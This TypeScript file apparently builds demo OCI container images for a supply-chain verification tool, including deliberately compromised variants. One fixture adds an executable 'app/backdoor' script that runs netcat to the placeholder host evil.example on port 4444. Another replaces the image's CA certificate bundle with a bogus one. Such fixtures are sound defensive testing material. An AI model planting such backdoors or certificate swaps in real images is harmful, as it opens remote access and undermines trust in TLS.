import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, posix } from 'node:path';
import { rootCertificates } from 'node:tls';
import {
  buildImage,
  buildLayer,
  createOciLayout,
  loadImage,
  type Image,
  type LayerEntry,
  type OciLayoutStore,
} from '../../src/image/index.ts';

const modules = join(import.meta.dirname, '..', '..', 'node_modules');
const signal = new AbortController().signal;
const PLATFORM = { os: 'linux', architecture: process.arch === 'x64' ? 'amd64' : process.arch };
const HISTORY_TIME = '2026-01-01T00:00:00Z';

export interface AssembledImage {
  readonly tag: string;
  readonly sizeBytes: number;
  readonly what: string;
}

/**
 * Writes the demo's images into an OCI layout. Base: the Node runtime that `npm ci` installed. Application: a small program with real packages and their
 * dependencies. Then the same application altered, tampered with, and lying about its base; and a newer base.
 */
export async function assembleImages(directory: string): Promise<readonly AssembledImage[]> {
  const store = await createOciLayout(directory);
  const base = await assemble(store, {
    tag: 'node-26',
    entries: baseEntries(),
    command: 'COPY node /usr/local/bin/node',
  });
  const app = await assemble(store, { tag: 'app', base, entries: appEntries(), command: 'COPY . /app' });
  const altered = await assemble(store, {
    tag: 'app-altered',
    base,
    entries: [...appEntries(), { ...text('app/backdoor', '#!/bin/sh\nnc evil.example 4444\n'), mode: 0o755 }],
    command: 'COPY . /app',
  });
  const tampered = await assemble(store, {
    tag: 'app-tampered',
    base: app,
    entries: [
      text('etc/ssl/certs/ca-certificates.crt', '-----BEGIN CERTIFICATE-----\nZXZpbA==\n-----END CERTIFICATE-----\n'),
    ],
    command: 'COPY our-ca.crt /etc/ssl/certs/ca-certificates.crt',
  });
  const lying = await assemble(store, {
    tag: 'app-lying',
    entries: [...baseEntries(), ...appEntries()],
    command: 'COPY / /',
    annotations: {
      'org.opencontainers.image.base.name': 'registry.example.com/base/node:26',
      'org.opencontainers.image.base.digest': base.digest,
    },
  });
  const newer = await assemble(store, {
    tag: 'node-26-next',
    base,
    entries: [text('etc/ssl/certs/ca-certificates.crt', `${rootCertificates.slice(1).join('\n')}\n`)],
    command: 'COPY ca-certificates.crt /etc/ssl/certs/',
  });
  return [
    describe('node-26', base, 'the base: Node, certificates, os-release'),
    describe('app', app, 'the application on it'),
    describe('app-altered', altered, 'rebuilt with a program more; nobody signed it'),
    describe('app-tampered', tampered, 'the application with the base’s certificates replaced'),
    describe('app-lying', lying, 'names the allowed base, but does not hold its layers'),
    describe('node-26-next', newer, 'a newer base: one certificate less'),
  ];
}

interface Assembly {
  readonly tag: string;
  readonly base?: Image;
  readonly entries: readonly LayerEntry[];
  readonly command: string;
  readonly annotations?: Readonly<Record<string, string>>;
}

async function assemble(store: OciLayoutStore, assembly: Assembly): Promise<Image> {
  const { base, tag } = assembly;
  const layer = await buildLayer(store, assembly.entries, { compression: 'gzip', level: 1, signal });
  const { digest } = await buildImage(store, {
    ...(base === undefined ? {} : { base: { image: base, store } }),
    layers: [layer],
    config: {
      platform: PLATFORM,
      env: ['PATH=/usr/local/bin:/usr/bin:/bin'],
      entrypoint: ['node', '/app/server.js'],
      user: '1000',
      created: HISTORY_TIME,
    },
    ...(assembly.annotations === undefined ? {} : { annotations: assembly.annotations }),
    history: [{ created: HISTORY_TIME, createdBy: assembly.command, emptyLayer: false }],
    tag,
    signal,
  });
  return loadImage(store, { reference: digest, hostPlatform: PLATFORM, signal });
}

function baseEntries(): readonly LayerEntry[] {
  const binary = join(modules, 'node', 'bin', process.platform === 'win32' ? 'node.exe' : 'node');
  return [
    { path: 'usr/local/bin/node', mode: 0o755, file: binary },
    text('etc/os-release', 'ID=waybill-demo\nNAME="waybill demo base"\nVERSION_ID="26"\n'),
    text('etc/passwd', 'root:x:0:0:root:/root:/sbin/nologin\nnode:x:1000:1000::/app:/sbin/nologin\n'),
    text('etc/ssl/certs/ca-certificates.crt', `${rootCertificates.join('\n')}\n`),
  ];
}

/** A program with two packages and everything they need, as `npm ci` laid them out. */
function appEntries(): readonly LayerEntry[] {
  const names = ['yaml', 'node-fetch', ...dependenciesOf('node-fetch')];
  const files = [...new Set(names)].flatMap((name) => folderEntries(join(modules, name), `app/node_modules/${name}`));
  const manifest = { name: 'shop', version: '1.0.0', private: true, dependencies: { yaml: '*', 'node-fetch': '*' } };
  return [
    text('app/package.json', JSON.stringify(manifest)),
    text('app/server.js', "import 'node-fetch';\n"),
    ...files,
  ];
}

function dependenciesOf(name: string): readonly string[] {
  const { dependencies = {} } = JSON.parse(readFileSync(join(modules, name, 'package.json'), 'utf8')) as {
    dependencies?: Record<string, string>;
  };
  return Object.keys(dependencies).flatMap((dependency) => [dependency, ...dependenciesOf(dependency)]);
}

function folderEntries(directory: string, target: string): readonly LayerEntry[] {
  return readdirSync(directory, { withFileTypes: true })
    .toSorted((a, b) => (a.name < b.name ? -1 : 1))
    .flatMap((entry): readonly LayerEntry[] => {
      const source = join(directory, entry.name);
      const path = posix.join(target, entry.name);
      if (entry.isDirectory()) return folderEntries(source, path);
      return entry.isFile() ? [{ path, mode: statSync(source).mode & 0o111 ? 0o755 : 0o644, file: source }] : [];
    });
}

function text(path: string, content: string): LayerEntry {
  return { path, mode: 0o644, content };
}

function describe(tag: string, image: Image, what: string): AssembledImage {
  return { tag, what, sizeBytes: image.layers.reduce((sum, layer) => sum + layer.descriptor.sizeBytes, 0) };
}
